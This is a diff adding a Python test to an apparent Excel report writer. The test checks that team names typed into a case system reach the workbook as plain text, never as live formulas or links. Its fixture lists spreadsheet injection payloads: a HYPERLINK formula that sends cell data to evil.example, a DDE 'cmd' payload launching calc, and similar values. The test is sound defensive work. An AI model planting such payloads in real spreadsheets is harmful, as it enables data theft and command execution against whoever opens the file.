@@ -143,3 +143,42 @@ def test_the_workbook_says_withheld_with_the_reason_and_never_the_figure(tmp_pat
     by_team = sheet_rows(path, 2)[1:]
     assert by_team[1][:6] == ["5.18", "T1", "Team One", None, None, "withheld"]
     assert by_team[0][5] == 80.0 and by_team[0][6] == "±1.0"
+
+
+def test_names_that_look_like_formulas_or_links_are_written_as_text(tmp_path):
+    """A team name is typed by anyone with access to the case system: it must reach Excel as text, never as a live
+    formula or a link."""
+    hostile = [
+        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        "+1+cmd|' /C calc'!A0",
+        "@SUM(1+1)",
+        "http://evil.example",
+    ]
+    values = pl.DataFrame(
+        {
+            "indicator_ref": ["4.7.2"] * len(hostile),
+            "period_end": [AS_OF] * len(hostile),
+            "team_id": [f"T{i}" for i in range(len(hostile))],
+            "numerator": [40] * len(hostile),
+            "denominator": [50] * len(hostile),
+            "value": [80.0] * len(hostile),
+            "value_low": [80.0] * len(hostile),
+            "value_high": [80.0] * len(hostile),
+            "rag": ["amber"] * len(hostile),
+            "status": ["published"] * len(hostile),
+            "status_reason": [None] * len(hostile),
+        }
+    )
+    teams = pl.DataFrame(
+        {"team_id": [f"T{i}" for i in range(len(hostile))], "team_name": hostile, "service_area_name": hostile}
+    )
+    path = tmp_path / "report.xlsx"
+    write_excel(path, report_rows(), values, CATALOGUE, teams, AS_OF)
+    with zipfile.ZipFile(path) as z:
+        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
+        assert not [n for n in z.namelist() if "externalLink" in n or n.endswith(".rels") and "worksheets" in n]
+        for name in sheets:
+            xml = z.read(name).decode()
+            assert "<f>" not in xml and "<f " not in xml and "hyperlink" not in xml.lower(), name
+    by_team = [cell for row in sheet_rows(path, 2) for cell in row if isinstance(cell, str)]
+    assert set(hostile) <= set(by_team)
